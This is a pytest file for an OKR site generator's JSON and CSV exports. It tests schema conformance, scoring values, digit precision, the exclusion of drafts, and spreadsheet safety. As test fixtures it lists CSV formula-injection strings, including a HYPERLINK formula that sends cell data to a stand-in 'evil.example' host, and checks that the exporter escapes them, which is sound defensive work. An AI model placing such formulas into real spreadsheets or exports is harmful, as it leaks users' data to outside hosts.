"""A quarter as data says what its pages say: in a fixed form, with all digits, without drafts.

Comes in: content. Goes out: okrs.json and okrs.csv, held against the form in docs/, against the
scoring itself, and against what spreadsheets do with texts.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import sites
from built import Site
from conftest import Serve
from hypothesis import given
from hypothesis import strategies as st
from playwright.sync_api import Page
from schemas import faults
from sites import key_result, metric, note, objective, quarter

from okrsite import exports, scoring
from okrsite.exports import QuarterData
from okrsite.text import plain

ROOT = Path(__file__).parent.parent
OddSite = Callable[[str], Site]
FILE = ROOT / "docs" / "okrs.schema.json"
FORM = json.loads(FILE.read_text(encoding="utf-8"))


def tables(site: Site) -> Iterator[tuple[str, list[dict[str, str]]]]:
    """Each okrs.csv by its quarter."""
    for file, data in site.files.items():
        if file.endswith("/okrs.csv"):
            yield file.split("/")[0], rows_of(data)


def rows_of(data: bytes) -> list[dict[str, str]]:
    """The rows of a table, strictly read."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


def built(folder: Path, source: sites.Source) -> Site:
    """The site of some content."""
    return sites.build(source.write(folder))


def data_of(site: Site, slug: str = "2017-q2") -> Any:
    """A quarter's okrs.json."""
    return site.json(f"{slug}/okrs.json")


# The form -----------------------------------------------------------------------------------------


def example() -> sites.Source:
    """The content that the example in docs/data.md is a part of."""
    rubric = {0.2: "4", 0.4: "8", 0.6: "12", 0.8: "16", 1.0: "20"}
    clubs = key_result(
        1,
        title="20 new clubs contribute",
        shared_with=["experiments"],
        measure=metric(),
        rubric=rubric,
    )
    first = objective(
        1,
        clubs,
        key_result(2, measure=metric()),
        key_result(3),
        title="Clubs bring new technical contributors",
        shared_with=["d-and-i"],
        supports=[{"goal": "open-by-design", "basis": "inferred"}],
    )
    others = [objective(number, key_result(1, measure=metric(to=100))) for number in (2, 3, 4)]
    recorded = {
        "o1/kr1": {
            "value": 12,
            "level": 0.6,
            "status": "on_track",
            "confidence": 0.7,
            "note": "Eight more clubs since April.",
        },
        "o1/kr2": {"value": 12},
        "o2/kr1": {"value": 50},
        "o3/kr1": {"value": 64},
    }
    teams = [{"id": "d-and-i", "name": "D&I"}, {"id": "experiments", "name": "Experiments"}]
    return sites.Source(
        {
            "goals.yml": {"goals": [{"id": "open-by-design", "title": "Open"}]},
            "partners.yml": {"partners": teams},
            "2017-q2/okrs.yml": quarter(first, *others, title="Participation OKRs Q2 2017"),
            "2017-q2/notes/2017-05-12-mid-quarter.md": note(
                "Mid-quarter", "2017-05-12", check_ins=recorded
            ),
        }
    )


def part_of(part: Any, whole: Any) -> Any:
    """What of `whole` the example speaks of: its fields in its order, its lists from the start."""
    if isinstance(part, dict) and isinstance(whole, dict):
        names = [name for name in whole if name in part]
        return {name: part_of(part[name], whole[name]) for name in names}
    if isinstance(part, list) and isinstance(whole, list):
        pairs = zip(part, whole, strict=False)
        return [part_of(one, other) for one, other in pairs]
    return whole


def test_the_example_in_the_docs_comes_out_exactly(tmp_path: Path) -> None:
    """12 of 20 clubs on 12 May: level 0.6 of the rubric, pace 0.6 / (42/91), in this order."""
    text = (ROOT / "docs" / "data.md").read_text(encoding="utf-8")
    block = re.search(r"^```json\n(.*?)^```$", text, re.MULTILINE | re.DOTALL)
    assert block
    promised = json.loads(block[1])
    found = part_of(promised, data_of(built(tmp_path, example())))
    assert json.dumps(found, indent=1) == json.dumps(promised, indent=1)


def test_the_published_schema_is_that_of_the_code() -> None:
    """Nobody has to keep docs/okrs.schema.json by hand: the models are its source."""
    write = "from okrsite import exports; print(exports.schema(), end='')"
    hint = f'python -c "{write}" > docs/okrs.schema.json'
    assert FILE.read_text(encoding="utf-8") == exports.schema(), hint


def test_the_schema_finds_what_is_wrong(team_site: Site) -> None:
    """A field that is gone, of another type, unknown or out of range is no data of ours."""
    whole = data_of(team_site)
    del whole["title"]
    whole |= {"graded": "4", "score": 1.2, "more": 1}
    whole["objectives"][0]["key_results"][0] |= {"status": "fine", "stale": 1}
    whole["objectives"][0]["weight"] = True
    first = "/objectives/0/key_results/0"
    words = "on_track, at_risk, off_track, done, dropped"
    assert sorted(faults(whole, FORM)) == [
        "/graded: '4' is no integer",
        f"{first}/stale: 1 is no boolean",
        f"{first}/status: 'fine' is not one of {words}",
        "/objectives/0/weight: True is no number",
        "/score: 1.2 is above 1",
        ": more is not described",
        ": title is missing",
    ]


def check_form(site: Site) -> None:
    """Every okrs.json fits the schema, and says nothing that the schema leaves out."""
    found = [file for file in site.files if re.fullmatch(r"[^/]+/okrs\.json", file)]
    assert len(found) == len(list(tables(site)))
    for file in found:
        data = site.files[file]
        read = json.loads(data)
        assert faults(read, FORM) == []
        again = QuarterData.model_validate_json(data)
        assert again.model_dump(mode="json", by_alias=True, exclude_unset=True) == read
        assert data.endswith(b"}\n")


def test_the_teams_data_has_the_form(team_site: Site) -> None:
    """The team's own three quarters."""
    assert data_of(team_site)["quarter"] == "2017-q2"
    check_form(team_site)


@pytest.mark.parametrize("name", sites.ODD_NAMES)
def test_odd_data_has_the_form(name: str, odd_site: OddSite) -> None:
    """Every odd site, too."""
    check_form(odd_site(name))


# What it says -------------------------------------------------------------------------------------


def test_the_data_says_what_the_scoring_says(odd_site: OddSite) -> None:
    """Every kind of measure: raw and shown progress, score and its source, pace, originals."""
    site = odd_site("measures")
    key_results = {
        f"{each['id']}/{one['id']}": one
        for each in data_of(site)["objectives"]
        for one in each["key_results"]
    }
    told = {path: (one["progress"], one["progress_shown"]) for path, one in key_results.items()}
    assert told["o1/kr1"] == (1.36, 1)
    assert told["o1/kr3"] == (1, 1)
    assert told["o1/kr5"] == (1, 1)
    assert told["o1/kr7"] == (0.5625, 0.5625)
    assert told["o1/kr8"] == (None, None)
    amended = {path for path, one in key_results.items() if "progress_original" in one}
    assert amended == {"o1/kr7"}
    assert key_results["o1/kr7"]["progress_original"] == 0.5
    assert key_results["o1/kr7"]["score_original"] == 0.5
    assert key_results["o1/kr2"]["score"] == 0.3
    assert key_results["o1/kr2"]["score_from"] == "rubric"
    assert key_results["o1/kr2"]["measure"] == {
        "kind": "threshold",
        "from": -50,
        "between": [10, 20],
        "unit": "NPS",
        "range": [-100, 100],
    }
    assert key_results["o1/kr8"]["score"] is None
    assert key_results["o1/kr8"]["score_from"] is None
    assert key_results["o1/kr8"]["pace"] is None
    assert key_results["o4/kr9"]["stale"] is None
    assert key_results["o1/kr4"]["check_ins"][0]["steps"] == ["draft"]
    earlier = data_of(site, "2017-q1")["objectives"][0]["key_results"]
    assert earlier[1]["score_from"] == "override"
    assert earlier[1]["close"] == {
        "outcome": "modify",
        "learned": None,
        "successor": "2017-q2/o1/kr2",
        "score": 0.7,
        "reason": "We had counted twice.",
    }
    assert earlier[0]["close"]["learned"] == "Slowly."


def test_nothing_recorded_is_null_and_empty_and_never_zero(odd_site: OddSite) -> None:
    """A quarter without a check-in has no number that could be taken for one."""
    site = odd_site("bare")
    data = data_of(site)
    (one,) = data["objectives"][0]["key_results"]
    assert (data["score"], data["graded"], data["of"], data["site"]) == (None, 0, 1, None)
    unknown = ("progress", "progress_shown", "score", "score_from", "pace", "stale", "status")
    assert {one[name] for name in unknown} == {None}
    assert one["check_ins"] == []
    ((_, (row,)),) = tables(site)
    assert {row[name] for name in ("objective_score", "progress", "score", "pace", "stale")} == {""}
    assert row["check_ins"] == "0"
    assert row["address"] == "2017-q2/o1/kr1/"


def test_numbers_keep_their_digits(tmp_path: Path) -> None:
    """A third is given to twelve places, a whole number without a point, a long one whole."""
    recorded = {"o1/kr1": {"value": 1}, "o1/kr2": {"value": "123,456,789.25"}}
    content = {
        "2017-q2/okrs.yml": quarter(
            objective(
                1,
                key_result(1, measure=metric(to=3)),
                key_result(2, measure=metric(to="123,456,790")),
            )
        ),
        "2017-q2/notes/a.md": note("A", "2017-05-12", check_ins=recorded),
    }
    site = built(tmp_path, sites.Source(content))
    first, second = data_of(site)["objectives"][0]["key_results"]
    assert first["progress"] == 0.333333333333
    assert second["check_ins"][0]["value"] == 123456789.25
    assert second["measure"]["to"] == 123456790
    assert b'"to": 3,' in site.files["2017-q2/okrs.json"]
    ((_, rows),) = tables(site)
    assert [row["value"] for row in rows] == ["1", "123456789.25"]


def test_the_table_has_a_row_for_each_key_result_and_says_the_same(team_site: Site) -> None:
    """Row by row what okrs.json has, in its order."""
    for slug, rows in tables(team_site):
        data = data_of(team_site, slug)
        expected = [(each, one) for each in data["objectives"] for one in each["key_results"]]
        assert len(rows) == len(expected)
        for row, (each, one) in zip(rows, expected, strict=True):
            assert (row["objective_id"], row["key_result_id"]) == (each["id"], one["id"])
            assert row["key_result"] == one["title"]
            for name in ("progress", "progress_shown", "score", "confidence"):
                number = float(row[name]) if row[name] else None
                assert number == one[name], (slug, one["id"], name)
            assert row["score_from"] == (one["score_from"] or "")
            assert row["status"] == (one["status"] or "")
            assert row["pace"] == (one["pace"]["word"] if one["pace"] else "")
            assert row["check_ins"] == str(len(one["check_ins"]))
            assert row["history"].count("; ") == max(0, len(one["check_ins"]) - 1)
            assert row["address"] == data["site"] + one["address"]


def test_an_objective_without_key_results_has_one_row(odd_site: OddSite) -> None:
    """Nothing of a key result is in it."""
    ((_, rows),) = tables(odd_site("without_key_results"))
    assert [row["objective_id"] for row in rows] == ["o1", "o7"]
    assert {row[name] for row in rows for name in ("key_result_id", "score", "check_ins")} == {""}


def test_a_table_is_as_the_standard_has_it(odd_site: OddSite) -> None:
    """Every line ends as RFC 4180 says, has as many cells, and no text becomes a formula."""
    for name in ("hostile", "scripts", "large", "measures"):
        for file, data in odd_site(name).files.items():
            if file.endswith("okrs.csv"):
                assert data.endswith(b"\r\n")
                assert b"\n" not in data.replace(b"\r\n", b"")
                text = io.StringIO(data.decode("utf-8"), newline="")
                lines = list(csv.reader(text, strict=True))
                assert {len(line) for line in lines} == {len(exports.COLUMNS)}
                assert lines[0] == list(exports.COLUMNS)


FORMULAS = [
    '=HYPERLINK("https://evil.example/"&A1)',
    "+1 please",
    "-2 to go",
    "@SUM(A1:A9)",
    "＝1+1",  # noqa: RUF001  a wide form, which some spreadsheets read alike
    "'quoted' by hand",
]


def test_a_text_that_looks_like_a_formula_is_a_text_and_can_be_had_back(tmp_path: Path) -> None:
    """One apostrophe more at its beginning, and none lost; numbers below zero stay numbers."""
    key_results = [
        key_result(number, title=title, measure=metric(to=-20), owner=title)
        for number, title in enumerate(FORMULAS, start=1)
    ]
    recorded = {f"o1/kr{n}": {"value": -5, "note": text} for n, text in enumerate(FORMULAS, 1)}
    content = {
        "2017-q2/okrs.yml": quarter(objective(1, *key_results, title=FORMULAS[0])),
        "2017-q2/notes/a.md": note("A", "2017-05-12", check_ins=recorded),
    }
    site = built(tmp_path, sites.Source(content))
    ((_, rows),) = tables(site)
    for row, text in zip(rows, FORMULAS, strict=True):
        for name in ("key_result", "owner", "last_note"):
            assert row[name][0] == "'"
            assert row[name].removeprefix("'") == text
        assert row["value"] == "-5"
        assert row["objective"] == "'" + FORMULAS[0]
    assert [one["title"] for one in data_of(site)["objectives"][0]["key_results"]] == FORMULAS


@given(st.text())
def test_any_text_in_a_cell_can_be_had_back(text: str) -> None:
    """What the docs promise, of every text; and no cell begins as a formula does."""
    cell = str(exports._cell(text))
    assert cell.removeprefix("'") == text
    assert cell[:1] not in {"=", "+", "-", "@"} or not text


def test_a_draft_note_is_not_in_the_data(tmp_path: Path) -> None:
    """Neither its check-ins, nor its words, nor its address, nor the day that it would make."""
    draft = note("zqdraft", "2017-06-01", draft=True, check_ins={"o1/kr1": {"value": 19}})
    content = {
        "2017-q2/okrs.yml": quarter(objective(1, key_result(1, measure=metric()))),
        "2017-q2/notes/2017-05-12-a.md": note(
            "A", "2017-05-12", check_ins={"o1/kr1": {"value": 4}}
        ),
        "2017-q2/notes/2017-06-01-zqdraft.md": draft,
        "2017-q3/okrs.yml": quarter(
            objective(1, key_result(1), title="zqdraft"), status="draft", published=None
        ),
    }
    site = built(tmp_path, sites.Source(content))
    assert not [file for file, data in site.files.items() if b"zqdraft" in data]
    data = data_of(site)
    assert data["day"] == "2017-05-12"
    assert [one["value"] for one in data["objectives"][0]["key_results"][0]["check_ins"]] == [4]
    assert "2017-q3/okrs.json" not in site.files


def test_comments_of_authors_are_not_published_as_data(tmp_path: Path) -> None:
    """Markdown is given as the words that readers see."""
    content = {
        "2017-q2/okrs.yml": quarter(
            objective(
                1, key_result(1), why="Because *so* <!-- zqsecret --> it [is](https://a.b/)."
            ),
        )
    }
    site = built(tmp_path, sites.Source(content))
    assert data_of(site)["objectives"][0]["why"] == "Because so  it is."
    assert not [file for file, data in site.files.items() if b"zqsecret" in data]


@pytest.mark.parametrize(
    ("markdown", "words"),
    [
        ("", ""),
        ("One\ntwo.\n\nThree.", "One\ntwo.\n\nThree."),
        ("See [[o1/kr1]], `[[o1]]` and \\[[o2]].", "See o1/kr1, [[o1]] and [[o2]]."),
        ("- one\n- *two*\n\n![a dot](dot.png)", "one\ntwo\n\na dot"),
        ("1 < 2 & <b>bold</b>", "1 < 2 & bold"),
    ],
)
def test_markdown_as_words(markdown: str, words: str) -> None:
    """Marks are gone, words and the ends of paragraphs are kept."""
    assert plain(markdown) == words


def test_the_report_leads_to_its_data(team_site: Site) -> None:
    """By a link for people, and in the head for programs."""
    for slug in ("2017-q1", "2017-q2", "2017-q4"):
        page = team_site.pages[f"{slug}/"]
        links = {one.get("href"): one.text for one in page.main.all("a")}
        assert links["okrs.json"] == "JSON"
        assert links["okrs.csv"] == "CSV"
        alternate = [one for one in page.root.all("link") if "alternate" in one.get("rel").split()]
        assert {one.get("href"): one.get("type") for one in alternate} == {
            "okrs.json": "application/json",
            "okrs.csv": "text/csv",
        }


def test_nothing_of_the_data_is_fetched_before_somebody_asks(
    page: Page, served: Serve, team_folder: Path
) -> None:
    """Not by the theme's script either, which looks for translations at what the head names."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{served(team_folder)}2017-q2/")
    page.wait_for_load_state("networkidle")
    assert [url for url in asked if url.endswith((".json", ".csv", ".xml"))] == [
        url for url in asked if url.endswith("/versions.json")
    ]


def test_the_rules_have_a_version_in_the_data(team_site: Site) -> None:
    """So that a program can tell when the same check-ins give another score."""
    assert data_of(team_site)["rules"] == scoring.RULES


def test_the_data_does_not_depend_on_the_language(odd_site: OddSite) -> None:
    """German pages and English ones have the same data."""
    german = odd_site("german").files["2017-q2/okrs.csv"]
    assert german == odd_site("measures").files["2017-q2/okrs.csv"]
